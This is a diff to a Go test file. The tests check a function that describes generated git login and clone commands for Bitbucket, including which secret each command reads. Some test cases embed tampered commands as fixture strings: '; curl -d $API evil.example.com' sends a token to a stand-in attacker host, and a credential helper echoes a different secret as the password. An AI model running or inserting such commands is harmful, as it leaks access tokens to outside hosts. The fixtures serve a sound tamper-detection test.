@@ -205,24 +205,31 @@ func TestWords(t *testing.T) {
 	strict.BearerOnly = true
 	documented := cloud
 	documented.Auth = setup.URL
+	header := server
+	header.Auth, header.Depth = setup.URL, 3
 	tests := []struct {
 		name           string
 		commands, want []string
 	}{
 		{"Cloud", append(cloud.LogIn(), cloud.Command(), "cd ./app && make"), []string{
 			"prepare git for https://bitbucket.org: no prompt, no header of the image's own",
-			"log git in to https://bitbucket.org; git reads $API, api_token",
-			"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app; git reads $API",
+			"log git in to https://bitbucket.org with the secret API (api_token)",
+			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) with the secret API into app",
 			"cd ./app && make",
 		}},
 		{"Data Center", append(server.LogIn(), server.Command()), []string{
 			"prepare git for https://git.example.com: no prompt, no header of the image's own",
-			"log git in to https://git.example.com; git reads $T, http_access_token",
-			"clone https://git.example.com/scm/~jane/lib.git into lib; git reads $T",
+			"log git in to https://git.example.com with the secret T (http_access_token)",
+			"clone https://git.example.com/scm/~jane/lib.git with the secret T into lib",
 		}},
-		{"Bearer only", strict.LogIn()[1:], []string{"log git in to https://git.example.com; git reads $T, http_access_token as Bearer only"}},
-		{"without the login", []string{cloud.Command()}, []string{"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app"}},
-		{"documented", []string{documented.Command()}, []string{documented.Command()}},
+		{"Bearer only", strict.LogIn()[1:], []string{"log git in to https://git.example.com with the secret T (http_access_token as Bearer only)"}},
+		{"without the login", []string{cloud.Command()}, []string{"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) into app"}},
+		{"documented", []string{documented.Command(), header.Command()}, []string{
+			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) with the secret API into app (clone_auth: url, api_token)",
+			"clone https://git.example.com/scm/~jane/lib.git (depth 3) with the secret T into lib (clone_auth: url, http_access_token)",
+		}},
+		{"documented, and more", []string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"},
+			[]string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"}},
 		{"by hand", []string{"git clone https://bitbucket.org/acme/app.git app", "make"}, []string{"git clone https://bitbucket.org/acme/app.git app", "make"}},
 		// whoever hides something in a command of ours is shown
 		{"ours and more", []string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"},
@@ -236,7 +243,7 @@ func TestWords(t *testing.T) {
 		}},
 		{"a login that reads another", []string{"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'", cloud.Command()}, []string{
 			"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'",
-			"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app",
+			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) into app",
 		}},
 		{"nothing", nil, nil},
 	}
